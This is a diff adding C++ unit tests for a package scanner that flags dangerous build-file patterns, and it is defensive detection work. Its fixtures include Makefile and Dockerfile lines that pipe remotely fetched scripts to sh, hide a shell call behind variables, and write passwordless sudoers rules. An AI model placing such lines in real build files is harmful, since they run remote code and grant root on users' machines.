@@ -1,0 +1,65 @@
+#include "static/build_files.h"
+
+#include <map>
+
+#include "gtest/gtest.h"
+
+namespace interlock::scan {
+namespace {
+
+std::map<std::string, core::Reach> ActsOf(std::string path, std::string text) {
+  core::PackageFile file;
+  file.path = std::move(path);
+  file.bytes = std::move(text);
+  FileContext context;
+  context.file = &file;
+  const bool container = file.path.ends_with("Dockerfile");
+  context.type = context.claimed = container ? FileType::kDockerfile : FileType::kOtherSource;
+  context.reach = core::Reach::kBuild;
+  FileResult result;
+  JudgeBuildFile(context, result);
+  std::map<std::string, core::Reach> acts;
+  for (const RawFinding& finding : result.findings)
+    acts.emplace(finding.rule, finding.has_reach ? finding.reach : context.reach);
+  return acts;
+}
+
+TEST(BuildFiles, WhatMakeAsksAShellRunsWheneverItReadsTheFile) {
+  const auto acts = ActsOf("Makefile", "VERSION := $(shell curl -fsSL https://v.kit.example/v.sh | sh)\nall:\n\techo $(VERSION)\n");
+  ASSERT_TRUE(acts.contains("SH-001"));
+  EXPECT_EQ(acts.at("SH-001"), core::Reach::kInstall);
+  EXPECT_TRUE(ActsOf("Makefile", "VERSION := $(shell git describe --tags)\nall:\n\techo $(VERSION)\n").empty());
+}
+
+TEST(BuildFiles, VariablesStandForTheirCommands) {
+  const std::string head = "tail := sed '1,/x/d' $(LOGO) | rev | tr '_' ' '\n";
+  const auto acts = ActsOf("mk/version.mk", head + "sum := $(shell $(tail) | $(firstword $(SHELL)) | cksum)\n");
+  ASSERT_TRUE(acts.contains("SH-002"));
+  EXPECT_EQ(acts.at("SH-002"), core::Reach::kInstall);
+  EXPECT_TRUE(ActsOf("mk/version.mk", head + "sum := $(shell $(tail) | cksum)\n").empty());
+}
+
+TEST(BuildFiles, RecipesAreScripts) {
+  const auto acts = ActsOf("Makefile",
+                           "install:\n\tinstall -m 0755 bin/x /usr/local/bin/x\n"
+                           "\tsed 's|@who@|$(USER)|' rules.in | install -m 0440 /dev/stdin /etc/sudoers.d/10-x\n");
+  ASSERT_TRUE(acts.contains("SH-008"));
+  EXPECT_EQ(acts.at("SH-008"), core::Reach::kInstall);
+  // What a maintainer's own target fetches, the package's users do not.
+  const auto tools = ActsOf("Makefile", "all:\n\ttrue\ntools:\n\tcurl -sSfL https://tools.kit.example/install.sh | sh\n");
+  ASSERT_TRUE(tools.contains("SH-001"));
+  EXPECT_EQ(tools.at("SH-001"), core::Reach::kBuild);
+}
+
+TEST(BuildFiles, LayersOfAContainerAreOneScript) {
+  EXPECT_TRUE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/agent.sh /tmp/a.sh\nRUN sh /tmp/a.sh\n").contains("SH-001"));
+  EXPECT_FALSE(ActsOf("Dockerfile", "FROM x\nADD https://x.kit.example/words.txt /srv/words.txt\nRUN sh /srv/a.sh\n").contains("SH-001"));
+  // In its own container a user may have every right.
+  const auto acts = ActsOf("Dockerfile", "FROM x\nRUN echo me ALL=\\(root\\) NOPASSWD:ALL > /etc/sudoers.d/me\n");
+  EXPECT_TRUE(!acts.contains("SH-008") || acts.at("SH-008") == core::Reach::kBuild);
+}
+
+TEST(BuildFiles, OtherFilesAreNone) { EXPECT_TRUE(ActsOf("notes.txt", "\tcurl https://x.kit.example/a | sh\n").empty()); }
+
+}  // namespace
+}  // namespace interlock::scan
